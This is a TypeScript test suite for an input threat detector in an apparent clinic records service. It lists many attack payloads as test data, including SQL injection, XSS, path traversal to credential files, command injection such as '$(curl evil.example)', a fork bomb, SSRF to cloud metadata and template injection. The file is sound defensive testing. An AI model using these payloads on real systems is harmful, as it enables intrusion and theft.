import { expect, test } from "vitest";
import { HONEST_TYPING } from "./honest-typing.testdata.ts";
import { isScanner } from "./scanner-agents.ts";
import { threatIn, threatInHeader } from "./threat.ts";

/** The values of a list, each between bars or line ends. */
const listed = (list: string): string[] => list.trim().split(/ \| |\n */);

const ATTACKS: Record<string, readonly string[]> = {
  sqli: [
    "' or 1=1--",
    "1 OR 1=1",
    "x' AND 'a'='a",
    '" or ""="',
    "admin'--",
    "1; DROP TABLE patients",
    "' UNION SELECT username, password FROM users--",
    "1/**/union/*!50000select*/2",
    "%27%20UNION%20SELECT%201",
    "%2527+or+1%253d1--",
    "&#39; or 1=1 -- ",
    "\uff07 or 1=1--",
    "\u2019 or 1=1--",
    "1 and sleep(5)",
    "'; WAITFOR DELAY '0:0:5'--",
    "1) or pg_sleep(9)--",
    "select * from pg_shadow",
    "x'||(select version())||'",
    "1 order by 10--",
    "' having 1=1",
    "1'::int",
    "aa' & 0 + 1 = 'aa",
    "')) or (('a'='a",
    "@@version",
    "{'$ne': 1}",
    "1 procedure analyse(extractvalue(1,2))",
  ],
  xss: [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "%3Cscript%3E",
    "%253cscript%253e",
    "&lt;script&gt;alert(1)",
    "&#60;img src=x>",
    "\\u003cscript",
    "\uff1cscript\uff1e",
    "java\tscript:alert(1)",
    "java&#9;script:x",
    '" onmouseover="x()',
    "<a href=javascript:alert(1)>",
    "<style>@import 'x'",
    "<iframe srcdoc=x>",
    "data:text/html;base64,AAAA",
    "+ADw-script+AD4-",
    "{{constructor.constructor('x')()}}",
    "document.cookie",
    "eval(name)",
    "<x/onxxx=1",
  ],
  traversal: [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2fetc",
    "..%252f..%252f",
    "..%c0%af..%c0%afetc",
    "%uff0e%uff0e/",
    "....//....//etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "C:\\boot.ini",
    "file:///etc/hosts",
    "/.git/config",
    "/.env",
    "..0x2f..0x2f",
    "/..;/admin",
    "/var/log/auth.log",
  ],
  command: [
    "; whoami",
    "x | ifconfig",
    "`id`",
    "$(curl evil.example)",
    "a && cat /x/y",
    "() { :;}; echo",
    ":(){ :|:& };:",
    "py''thon -c 'x'",
    "c$@at /x",
    "'c'url localhost",
    "/???/b??h",
    "{id,}",
    "cat<<<ifconfig",
    "nohup ifconfig",
    "env --version",
    "strace whoami",
    "alias a=curl",
    "\u0024{IFS}",
    "exec 5>&1",
    "for /f %i in (x) do y",
    "if not exist x y",
    "Invoke-WebRequest x",
    "cmd /c dir",
    ";.shell nc",
    "system('id')",
  ],
  template: [
    "{{user.name}}",
    "\u0024{7*7}",
    "#{7*7}",
    "*{7*7}",
    "*{T(x)}",
    "@{[system 'id']}",
    "\u0024{jndi:ldap:x}",
    "{% if x %}",
    "x__proto__",
    "a[constructor][prototype]",
    "process.binding(x",
    "child_process",
    "while(true)",
    "user__name__startswith",
    "class.module.classLoader",
  ],
  ssrf: [
    "http://169.254.169.254/latest",
    "http://127.0.0.1:9200/",
    "https://localhost/x",
    "http://[::1]/",
    "http://2130706433/",
    "http://0x7f000001/",
    "ssh://0177.0.0.1",
    "http://user@10.0.0.1/",
    "http://metadata.google.internal/x",
    "localhost/",
    "http:0251.0376.0251.0376",
  ],
  protocol: [
    "x\r\nSet-Cookie: a=b",
    "x\nGET / HTTP/1.1",
    "%0d%0aLocation: x",
    "x\r\nRCPT TO:<a@b>",
    "\r\nA001 SELECT INBOX",
    "*)(uid=*",
    "x)(|(uid=y",
    "admin)(&)",
    "x%00",
    "%73%6f%6d%65",
    "PHP_VALUE x",
  ],
};

test("attacks are found by their kind, in every spelling that something behind us might decode", () => {
  for (const [kind, values] of Object.entries(ATTACKS)) {
    for (const value of values) expect(threatIn(value), value).toBe(kind);
  }
});

const INNOCENT = listed(`
  O'Brien | O’Brien | D'Arcy; drop | Select | SELECT | Union Street | 1=1 ratio | BP <120 | d'Angelo d'Este
  Rock 'n' Roll | O'Neil or O'Brien | Jack and Jill = twins | José "Pepe" Núñez | de la O'Hara--Smith
  Smith & Sons | Ms. Null | True or False | Drop | Where | update Miller | Max Power (1980)
  Alert (Code Blue) | count dracula | Count(s) | left(eye) | sleep (apnoea)
  amoxicillin/clavulanate 875/125 | co-trimoxazole; 2x daily | p < 0.05 and n = 30 | mg/kg/day
  ondansetron=8mg | vitamin B12 / D3 | 5' 10" | 100% effective | <5 mg | HbA1c > 7 | a.c./p.c.
  case when needed then stop | values > 7 and | Is Null | Measurement of respiratory function (procedure)
  50% dextrose | and/or | ... | #2 bed | E11.9 | http://loinc.org|8867-4 | urn:oid:2.16.840.1.113883
  2001:db8::1 | 2001:db8:face::d | ::1 | o'brien@example.com | select.one+union@example.com
  a--b@example.com | x/y=z@example.com | 018f4c1e-7a2b-7c3d-8e4f-0123456789ab | 2026-01-02T03:04:05.678Z
  eyJ0Ijoi--__MjAyNiJ9 | W/"3" | Root=1-67891233-abcdef012345678912345678 | {"scheme":"https"}
  1.2.3.4, 10.0.0.1 | for=1.2.3.4;proto=https | https://clinic.example/patients?sort=name&dir=asc | u=1, i
  bytes=0-1023 | prescription/018f4c1e | medvault.records.prescription.read.v1 | record:read
  nationalId,phone | 12345678Z | +34 600 (ext. 5) | Wall; where it hurts | Mount, Wall | sleep apnea
  if anything | for 3 days | test -ve | TAC; IRB; GCC | tel:+34600123123 | id:12345678 | 10.0.0.1
  169.254.1.2 | https://clinic.example/x | urn:uuid:018f4c1e | Smith (Jr) (MD) | (L) (R=2) | cat -scan
  Smith (a) & (b) | MRI (head) (neck) | $5 | US$ 20 | 5 {mg} | {a} | [a] | 50% | ~5 | ~-1 | get well soon
  get-together | Post office | Host: Smith | name__x | C88;C89 | LS spine | CP; SOB
`);

test("names, codes, times, addresses and what else people type are no attack", () => {
  for (const value of INNOCENT) expect(threatIn(value), value).toBeNull();
});

test("a measure before a dash, a function's name before a bracket, an arrow: honest typing is no attack", () => {
  expect(HONEST_TYPING.filter((typed) => threatIn(typed) !== null)).toEqual([]);
});

test("one character more makes an attack of some of them", () => {
  for (const value of [
    "vitamin B12 1000 mcg') --",
    "1000) --",
    "sleep(8)",
    "/etc/passwd",
    "x' or 'y'='y",
    "admin' or '",
    "version()",
    "oct('a')",
    "cast(a as int)",
    "; delete from patients",
    "insert into users values (1)",
    "exec master..xp_cmdshell",
    "onclick=x()",
    "--><b onload=x>",
    "<br onload=x()>",
    '<a href="javascript:x()">',
    "style=x:expression(y)",
  ])
    expect(threatIn(value), value).not.toBeNull();
});

/** Names of programs that people have, take, feel or say: these are searched for as they are. */
const WORDS_OF_THE_SHELL =
  "cat bash ruby ping id perl python sleep echo find who top less more kill nice cut mount curl awk sed head tail mail man make time last look host date docker sudo vim fish dash jobs node lua java less at cc cp ls ps mv rm sh su dd df du ed ex nc test type touch tee tr w watch wish yes".split(
    " ",
  );

/** In which forms they are written. */
const WRITTEN = listed(`
  WORD | NAME | NAME Stevens | May NAME | NAME, Wall | Wall, NAME | NAME's | O'NAME | "NAME" | 'NAME'
  (NAME) | Mary-NAME | NAME-Smith | NAME; Wall | Wall; NAME | Wall;NAME | Smith & NAME | NAME & Sons
  NAME/Wall | Wall/NAME | NAME apnea | NAME 5 | NAME -ve | NAME - left | NAME: Wall | NAME? | NAME > 7
  NAME = 5 | NAME "Pepe" Li | NAME 'n' Roll | Time NAME | Dr. NAME | NAME Jr. | NAME dr.li | NAME /left
  WORD@example.com | WORD and WORD | NAME #2 | NAME (old) | Ping NAME
`);

test("the shell's words are names and complaints too, however they are written", () => {
  for (const word of WORDS_OF_THE_SHELL) {
    const name = word.charAt(0).toUpperCase() + word.slice(1);
    for (const form of WRITTEN) {
      const value = form.replaceAll("NAME", name).replaceAll("WORD", word);
      expect(threatIn(value), value).toBeNull();
    }
  }
});

test("an address of the internal network is refused in a field and not in a header: clinics serve their pages from there", () => {
  for (const page of [
    "http://127.0.0.1:3000/docs",
    "https://localhost:8443/",
    "http://10.1.2.3/patients?sort=name&id=4",
  ]) {
    expect(threatIn(page), page).toBe("ssrf");
    expect(threatInHeader(page), page).toBeNull();
  }
  expect(threatInHeader("; whoami")).toBe("command");
});

test("search works as one types: a half-written word is no attack either", () => {
  for (const value of INNOCENT) {
    for (let end = 1; end < value.length; end++) {
      const typed = value.slice(0, end);
      // A function's name and its bracket alone is the one beginning that is taken for an attack.
      if (!/^[a-z]+\($/i.test(typed)) expect(threatIn(typed), typed).toBeNull();
    }
  }
});

test("scanners that say so are known; browsers, scripts and names that resemble them pass", () => {
  for (const agent of [
    "sqlmap/1.8#stable (https://sqlmap.org)",
    "Mozilla/5.0 (compatible; Nikto/2.5.0)",
    "NUCLEI - open source",
    "Vega",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
    "OWASP JoomScan/0.0.7",
    "cmsmap/1.0",
    "droopescan 1.45",
    "OWASP Nettacker",
    "WhatWaf/2.1",
    "ghauri/1.3",
    "WPRecon - Wordpress Recon",
    "Mozilla/5.0 (compatible; Panoptic/v0.1)",
    "NewVulnScan/0.1",
    "Acme Security Scanner 3",
    "lfi-hunter",
    "ssti_fuzz/2",
  ])
    expect(isScanner(agent), agent).toBe(true);
  for (const agent of [
    "Mozilla/5.0 (X11; Linux x86_64; rv:156.0) Gecko/20100101 Firefox/156.0",
    "curl/8.9.1",
    "python-requests/2.32",
    "node",
    "",
    "MedVaultMobile/1.0 (Vegas; Android 16)",
    "CamScanner/6.5 (iPhone; iOS 18)",
    "GeniusScan/7 (Android)",
    "MapMyClinic/2.1",
    "dirk's script",
  ]) {
    expect(isScanner(agent), agent).toBe(false);
    expect(threatIn(agent), agent).toBeNull();
  }
});

const ATOMS =
  "a|'|\"|(|)|%|%25|&|&#|&#x0|\\|\\u|<|<a |</|<!|/|..|../|.|{|{{|[|![|on|on |=|a=|;|-|--|/*|*/|#|0x|1.|1 or |' or |and |union |select |select(|`|@|@@|::|java|j a|expression|url(|\uff1c|\t|style |data:|etc/|/var/|c:\\|function |function(|$|${|+|+ad|1e|||case when |group by |'a'='a|on\t|window .|%u|;|$(|${|`|;cat |; cat|cat -|cat /|/a/|/a[|/???|{a,|'a'|''|$@|\\a|if |if /i |for |for /d |%a |curl a.|ping a-|\n|\r\nA1 |)(|)(a|*)|a://|http://a.|http://0x1.|http://1.|a__|\"a__|%61|get |;\n|alias a";

test("64 KiB of the worst that each pattern can meet costs milliseconds: no backtracking, whatever is sent", () => {
  for (const atom of ATOMS.split("|")) {
    for (const between of ["", "a", " ", "=", "'"]) {
      const value = (atom + between || "x").repeat(65_536).slice(0, 65_536);
      const before = process.cpuUsage();
      threatIn(value);
      const { user, system } = process.cpuUsage(before);
      expect((user + system) / 1_000, JSON.stringify(atom + between)).toBeLessThan(150);
    }
  }
});
